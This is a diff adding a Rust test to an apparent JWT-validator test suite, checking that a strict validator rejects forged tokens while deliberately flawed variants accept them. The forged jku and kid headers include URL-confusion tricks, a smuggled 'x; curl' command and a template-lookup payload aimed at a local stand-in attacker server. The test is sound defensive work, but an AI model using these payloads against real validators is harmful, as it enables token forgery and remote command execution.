@@ -71,6 +71,34 @@ fn addresses_in_the_header_are_followed_only_by_flaws() {
 }
 
 #[test]
+fn addresses_that_only_resemble_trusted_ones_are_followed_only_by_flaws() {
+    let (base, paths) = attacker();
+    let host = base.trim_start_matches("http://");
+    let mut trust = trust(USUAL, "JWT");
+    trust.issuer = format!("{base}/issuer");
+    let claims = claims_with("iss", json!(trust.issuer));
+    let jku = |address: String| forged(header_with("jku", json!(address)), &claims);
+    let kid = |name: String| forged(header_with("kid", json!(name)), &claims);
+    let mut tenant: Value = serde_json::from_str(&claims).unwrap();
+    tenant["tid"] = "../other".into();
+    let strict = validator(None, &trust);
+    for (flaw, token, taken, path) in [
+        (Flaw::JkuPrefixAllowed, jku(format!("{base}/issuer/../other")), true, "/other"),
+        (Flaw::JkuSubstringAllowed, jku(format!("{base}/other?{base}/issuer/jwks.json")), true, "/other?"),
+        (Flaw::JkuHostMisread, jku(format!("http://{host}@{host}/other")), true, "/other"),
+        (Flaw::JkuRedirectFollowed, jku(format!("{base}/issuer/other")), true, "/issuer/other"),
+        (Flaw::KeySetTemplated, forged(header_with("x", json!(1)), &tenant.to_string()), true, "/other/jwks.json"),
+        (Flaw::KidCommandRun, kid(format!("x; curl {base}/ran")), false, "/ran"),
+        (Flaw::KidTemplateRun, kid(format!("${{url:UTF-8:{base}/ran}}")), false, "/ran"),
+    ] {
+        assert!(!accepts(&strict, &token), "{flaw}");
+        assert!(paths.try_recv().is_err(), "strict fetches nothing");
+        assert_eq!(accepts(&validator(Some(flaw), &trust), &token), taken, "{flaw}");
+        assert!(next(&paths).is_some_and(|asked| asked.starts_with(path)), "{flaw}");
+    }
+}
+
+#[test]
 fn keys_of_an_unlisted_issuer_are_fetched_only_by_the_flaw() {
     let (base, paths) = attacker();
     let token = forged(header_with("kid", Value::Null), &claims_with("iss", json!(base)));
